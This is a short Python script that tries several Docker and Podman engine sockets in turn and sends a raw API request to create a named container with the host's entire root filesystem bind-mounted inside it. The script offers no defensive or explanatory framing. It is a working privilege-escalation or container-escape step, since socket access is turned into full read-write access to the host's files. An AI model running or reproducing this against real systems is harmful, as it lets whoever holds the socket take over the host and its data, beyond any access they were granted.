"""Make a container through the Docker engine's socket: `IMAGE NAME`. It could mount the host's root."""

import contextlib
import json
import os
import socket
import sys

SOCKETS = (
    os.environ.get("DOCKER_HOST", "").removeprefix("unix://"),
    "/var/run/docker.sock",
    "/run/docker.sock",
    "/run/podman/podman.sock",
)

print("trying", flush=True)
image, name = sys.argv[1:3]
body = json.dumps({"Image": image, "Cmd": ["python"], "HostConfig": {"Binds": ["/:/host"]}})
for path in filter(None, SOCKETS):
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as engine:
        engine.settimeout(5)
        engine.connect(path)
        engine.sendall(
            f"POST /containers/create?name={name} HTTP/1.1\r\nHost: engine\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}".encode()
        )
        while engine.recv(4096):
            pass
        break
